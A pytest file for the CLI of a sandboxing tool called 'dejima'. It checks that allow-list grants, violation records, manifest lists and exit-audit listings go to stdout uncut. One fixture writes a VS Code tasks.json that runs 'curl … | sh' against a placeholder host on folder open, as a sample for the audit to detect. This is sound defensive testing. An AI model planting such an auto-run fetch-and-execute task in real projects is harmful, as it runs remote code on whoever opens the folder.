"""The commands as a script uses them, through pipes: tables and answers on stdout, diagnostics on
stderr, and no value cut off a terminal. The real CLIs in subprocesses; `dejima-allow` against the
filter's real resolver and control socket (tests/unit/cli/livefilter.py)."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path

from dejima.adapters.session_dirs import ViolationStore
from dejima.core.egress import parse_policy
from dejima.filter import VIOLATION
from tests.unit.cli.livefilter import live_filter

# Longer than a terminal's 80 columns: off a terminal it is printed whole, never cut or folded.
LONG_NAME = "a-rather-long-label-for-a-test." + "b" * 40 + ".refused.example.test"


def dejima(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-c", "from dejima.cli.launch import main; raise SystemExit(main())",
                           *args], cwd=cwd, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)


def audit(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-c", "from dejima.cli.audit import main; raise SystemExit(main())",
                           *args], capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)


def test_allow_listings_go_to_stdout_whole_and_answers_too(tmp_path: Path) -> None:
    with live_filter(tmp_path, "out11111", parse_policy(["web.example.test"], [])) as live:
        live.ask(LONG_NAME)
        listed = live.command("dejima-allow")
        assert listed.returncode == 0, listed.stderr
        assert LONG_NAME in listed.stdout and "refused names" in listed.stdout
        assert LONG_NAME not in listed.stderr
        granted = live.command("dejima-allow", "1", "--reason", "the test needs it")
        assert granted.returncode == 0, granted.stderr
        assert f"granted {LONG_NAME} to session out11111" in granted.stdout
        both = live.command("dejima-allow", "--list")
        assert both.returncode == 0, both.stderr
        grants, refusals = both.stdout.split("refused names")
        assert "live grants" in grants and "the test needs it" in grants
        assert LONG_NAME in grants and LONG_NAME in refusals  # each whole


def test_violations_and_the_session_list_of_records_go_to_stdout_whole(tmp_path: Path) -> None:
    store = ViolationStore("out22222")
    assert store.append_line(VIOLATION + json.dumps({"time": time.time(), "kind": "dns", "domain": LONG_NAME,
                                                     "reason": f"{LONG_NAME} is not on the allow list"}))
    shown = dejima("violations", "out22222")
    assert shown.returncode == 0, shown.stderr
    assert shown.stdout.count(LONG_NAME) == 2 and LONG_NAME not in shown.stderr
    empty = dejima("violations", "out33333")
    assert empty.stdout == "" and "no violations recorded" in empty.stderr  # a diagnostic, not a result


def test_manifests_list_goes_to_stdout_with_whole_paths() -> None:
    listed = dejima("manifests", "list")
    assert listed.returncode == 0, listed.stderr
    from dejima import api

    shipped = next(m.source for m in api.manifests() if m.ref == "harnesses/shell")
    assert "harnesses/shell" in listed.stdout
    rows = [line for line in listed.stdout.splitlines() if "harnesses/shell" in line]
    assert len(rows) == 1 and shipped in rows[0], rows  # one line, its path whole


def test_audit_list_off_a_terminal_cuts_no_path_or_evidence(tmp_path: Path) -> None:
    import io

    from dejima.orchestration import exit_audit
    from dejima.ui.console import UI, plain_console

    workspace = tmp_path / ("project-" + "p" * 60)
    deep = workspace / ".vscode"
    deep.mkdir(parents=True)
    exit_audit.start("out44444", [exit_audit.Mount("workspace", workspace)])
    (deep / "tasks.json").write_text(json.dumps({"version": "2.0.0", "tasks": [
        {"label": "l", "command": "curl https://" + "c" * 70 + ".example.test | sh",
         "runOptions": {"runOn": "folderOpen"}}]}))
    exit_audit.finish("out44444", UI(plain_console(io.StringIO())))
    listed = audit("list")
    assert listed.returncode == 0, listed.stderr
    assert str(workspace) in listed.stdout and "(+1 more)" in listed.stdout and "…" not in listed.stdout
